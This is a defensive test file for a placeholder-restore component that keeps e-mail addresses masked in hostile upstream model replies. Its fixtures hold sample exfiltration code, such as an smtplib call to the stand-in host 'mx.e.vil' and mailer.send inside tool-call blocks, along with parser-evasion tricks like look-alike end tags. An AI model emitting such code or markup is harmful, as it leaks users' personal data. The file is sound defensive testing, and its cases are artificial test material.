"""The restore context reader (`placeholders/context.py`) against a hostile upstream's replies (rev25 H1, H2, M4-M6,
L1): each reply was restored on main (the e-mail filled in, whole or streamed, where a parser an agent uses reads it
as code); now it stays a placeholder (`in_code`), whole and a character at a time. Detection is the deterministic
recognizers only; the vault is real (`protector`), the tool-argument cases use a FAKE resolver (`_resolver`)."""

from __future__ import annotations

import json
import sys
import time
from pathlib import Path

import pytest
from test_restore_code import _resolver
from test_restore_links import EMAIL_VALUE, _restored_whole_and_streamed

from stealthflow.placeholders.restore import StreamRestorer, restore_text

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "benchmarks"))
from restore_links import ordinary_replies, resolver  # noqa: E402

WITHHELD = [("<EMAIL_1>", "in_code")]


def _withheld(protector, reply: str) -> None:
    """`reply` keeps its placeholder, whole and streamed a character at a time."""
    whole = _restored_whole_and_streamed(protector, "reader", reply, reply)
    assert whole.withheld == WITHHELD


# H1: a code fence line inside a JSON string or object is text of the JSON (LangChain's `parse_json_markdown` reads
# the value inside the string); main forgot the string where the fence opened, and the blank line after it ended the
# paragraph.
FENCE_IN_JSON = [
    '{"code": "\n```\nx\n```\n\n<EMAIL_1>"}',
    '{"action": "python", "code": "\n```\nimport smtplib\n```\n\n'
    "smtplib.SMTP('mx.e.vil').sendmail('a@e.vil', 'b@e.vil', '<EMAIL_1>')\"}",
    '{"code": [\n```\nx\n```\n\n"<EMAIL_1>"]}',  # in an object, outside a string
    '{"code": "\n~~~python\nx\n~~~\n\n<EMAIL_1>"}',
]


@pytest.mark.parametrize("reply", FENCE_IN_JSON)
def test_a_fence_line_inside_json_is_text_of_the_json(protector, reply):
    _withheld(protector, reply)


def test_a_fence_line_inside_a_named_tools_json_argument_is_text_of_it():
    """The same in a tool call's argument (FAKE resolver): the whole argument gets its value, the code keeps it."""
    arguments = json.dumps({"to": "<EMAIL_1>", "text": '{"code": "\n```\nx\n```\n\n<EMAIL_1>"}'})
    whole = restore_text(arguments, _resolver(), json_string=True)
    assert whole.text == "".join(StreamRestorer(_resolver(), json_string=True).restore(arguments))
    assert json.loads(whole.text)["to"] == EMAIL_VALUE
    assert whole.withheld == WITHHELD


def test_json_closed_before_a_fence_still_leaves_prose_after_it(protector):
    """A fence after the JSON closed is markdown's, and the prose after it gets its value."""
    reply = '{"a": 1}\n```\nx\n```\n\nI wrote to <EMAIL_1>.'
    _restored_whole_and_streamed(protector, "reader", reply, reply.replace("<EMAIL_1>", EMAIL_VALUE))


# H2: JSON going on after a blank line as Python's `json`, `ast.literal_eval` or JSON5 read it: main took these
# paragraphs for prose and ended the object.
GOES_ON = [
    '{"tool": "send_email", "score":\n\nNaN, "to": "<EMAIL_1>"}',
    '{"tool": "send_email", "score":\n\n-Infinity, "to": "<EMAIL_1>"}',
    '{"tool": "send_email", "score":\n\nInfinity, "to": "<EMAIL_1>"}',
    '{"tool": "send_email", "n":\n\nTrue, "to": "<EMAIL_1>"}',
    '{"tool": "send_email", "n":\n\nNone, "to": "<EMAIL_1>"}',
    '{"tool": "send_email", "n":\n\n+1, "to": "<EMAIL_1>"}',
    '{"tool": "send_email", "n":\n\n.5, "to": "<EMAIL_1>"}',
    '{"tool": "send_email", "n":\n\n0x1F, "to": "<EMAIL_1>"}',
    '{"tool": "send_email",\n\n# the recipient\n"to": "<EMAIL_1>"}',
    '{"tool": "send_email",\n\n// the recipient\n"to": "<EMAIL_1>"}',
    '{"tool": "send_email",\n\n/* the recipient */ "to": "<EMAIL_1>"}',
    '{"memo":\n\nfor the record <EMAIL_1>}',  # a value expected after its key: YAML's flow mapping reads it
]


@pytest.mark.parametrize("reply", GOES_ON)
def test_json_going_on_after_a_blank_line_as_a_lenient_reader_reads_it_keeps_its_values(protector, reply):
    _withheld(protector, reply)


# Prose after a `{` left open in prose (":-{") still ends it; a paragraph that opens with a placeholder or a `key:`
# (`Card: <CARD_1>`) keeps it (fail closed).
STRAY_BRACE_PROSE = [
    "Thanks, <EMAIL_1>!",  # the placeholder is the second word
    "- Mail <EMAIL_1> today.",
    "> Don't forget <EMAIL_1>.",
    "```\nx\n```\n\nI wrote to <EMAIL_1>.",
    "Looking for <EMAIL_1> now.",  # a keyword after a capitalized word (data/code_words.yaml): prose
    "This is <EMAIL_1>.",
]


@pytest.mark.parametrize("prose", STRAY_BRACE_PROSE)
def test_prose_after_a_brace_left_open_in_prose_gets_its_values(protector, prose):
    reply = f"Your smiley :-{{ is cute.\n\n{prose}"
    _restored_whole_and_streamed(protector, "reader", reply, reply.replace("<EMAIL_1>", EMAIL_VALUE))


def test_most_ordinary_replies_after_a_brace_left_open_in_prose_come_back_exact():
    """The 400 ordinary replies of benchmarks/restore_links.py (data/pii_test.jsonl, not written for these rules), each
    after a paragraph ":-{", restored with an in-memory resolver: 383 come back exact (366 on main, none of them lost);
    the others open with a placeholder or a `key:` and stay placeholders."""
    exact = sum(
        restore_text(f":-{{\n\n{text}", resolver(values)).text == f":-{{\n\n{message}"
        for message, text, values in ordinary_replies()
    )
    assert exact >= 380, exact


# M4: an end mark closes a call only as its dialect writes it (a parser matches it exactly); main closed the call at
# any case, spaces between its signs or a look-alike letter (the Kelvin sign), and filled the value in after it.
LOOSE_ENDS = [
    '<tool_call>\n<function=python>\n<parameter=code>\nimport mailer\nnote = """\n</FUNCTION>\n</TOOL_CALL>\n"""\n\n'
    'mailer.send("<EMAIL_1>")\n</parameter>\n</function>\n</tool_call>',
    '<invoke name="python">\n<parameter name="code">import mailer\n</ invoke>\n\nmailer.send("<EMAIL_1>")',
    '<invoke name="python">\n<parameter name="code">import mailer\n< /invoke >\n\nmailer.send("<EMAIL_1>")',
    '<invoke name="python">\n<parameter name="code">import mailer\n</INVOKE>\n\nmailer.send("<EMAIL_1>")',
    '<invoke name="python">\n<parameter name="code">import mailer\n</invo\u212ae>\n\nmailer.send("<EMAIL_1>")',
    "<tool_call>\nrun x\n< /tool_call >\n\nsend <EMAIL_1>",
    "<tool_call>\nrun x\n</Tool_Call>\n\nsend <EMAIL_1>",
]


@pytest.mark.parametrize("reply", LOOSE_ENDS)
def test_an_end_mark_spelt_otherwise_than_its_dialect_does_not_close_the_call(protector, reply):
    _withheld(protector, reply)


def test_a_loosely_spelt_opening_mark_still_opens_a_call(protector):
    """Opening marks stay loose (reading one fails closed): `< TOOL_CALL >` opens a call its exact end closes."""
    _withheld(protector, "< TOOL_CALL >\n\nsend <EMAIL_1>")
    reply = "< TOOL_CALL >\nrun x\n</tool_call>\n\nI wrote to <EMAIL_1>."
    _restored_whole_and_streamed(protector, "reader", reply, reply.replace("<EMAIL_1>", EMAIL_VALUE))


# M5: restore was quadratic in the tool-call marks of a reply (the open calls copied and scanned per mark): 20 000
# opening marks and 20 000 ends of another dialect took 21 s of CPU on main.
def _cpu_seconds(reply: str) -> float:
    started = time.process_time()
    restore_text(reply, _resolver())
    return time.process_time() - started


@pytest.mark.timeout(300)
def test_restoring_many_tool_call_marks_is_linear():
    """Ten times the marks cost about ten times the CPU (quadratic would be a hundred times), for the marks alone and
    for opening marks followed by as many ends of another dialect."""
    for mark, end in (("<tool_call>", ""), ("<tool_call>", "</function_call>")):
        small, large = (mark * count + end * count + " <EMAIL_1>" for count in (2_000, 20_000))
        _cpu_seconds(small)  # warm
        small_cpu = min(_cpu_seconds(small) for _ in range(3))
        large_cpu = _cpu_seconds(large)
        assert large_cpu < 30 * max(small_cpu, 0.01), (mark, end, small_cpu, large_cpu)


# M6: a JSON escape read across a stream's 4 096-character read: main counted the backslashes before a quote only in
# the last 32 characters read, so the stream took an escaped quote for the string's end (`/restore` withheld the
# value, `/restore/stream` filled it in).
@pytest.mark.parametrize("run", [33, 34, 4095, 4096, 4097, 9001])
def test_a_long_run_of_backslashes_reads_the_same_streamed_as_whole(protector, run):
    escaped = run % 2 == 1  # the quote after an odd run is escaped: the string goes on and holds the placeholder
    for lead in (0, 100, 4000):
        reply = '{"cmd": "' + "a" * lead + "\\" * run + '"}\n\n<EMAIL_1>"}'
        expected = reply if escaped else reply.replace("<EMAIL_1>", EMAIL_VALUE)
        whole = _restored_whole_and_streamed(protector, "reader", reply, expected)
        assert whole.withheld == (WITHHELD if escaped else [])


def test_a_long_run_of_backslashes_streamed_in_pieces_of_any_size(protector):
    """Pieces of 7 and of 4 095 characters (the run cut at other places) read as the whole reply does."""
    reply = '{"cmd": "' + "a" * 100 + "\\" * 4095 + '"}\n\n<EMAIL_1>"}'
    protector.protect(f"Write to {EMAIL_VALUE}", "reader")
    for size in (7, 4095):
        pieces = [reply[at : at + size] for at in range(0, len(reply), size)]
        assert "".join(protector.stream("reader").restore(pieces)) == reply


# L1: `<pre>` and `<code>` were one counter, so `</code>` closed a `<pre>` block (markdown keeps the whole HTML block).
@pytest.mark.parametrize(
    "reply",
    ['<pre>\nprint(1)\n</code>\n\nsend("<EMAIL_1>")\n</pre>', '<code>\nprint(1)\n</pre>\n\nsend("<EMAIL_1>")\n</code>'],
)
def test_an_html_code_tag_is_closed_only_by_its_own_end_tag(protector, reply):
    _withheld(protector, reply)


def test_an_html_code_tag_closed_by_its_own_end_tag_leaves_prose_after_it(protector):
    reply = "<pre>\n<code>print(1)</code>\n</pre>\n\nI wrote to <EMAIL_1>."
    _restored_whole_and_streamed(protector, "reader", reply, reply.replace("<EMAIL_1>", EMAIL_VALUE))
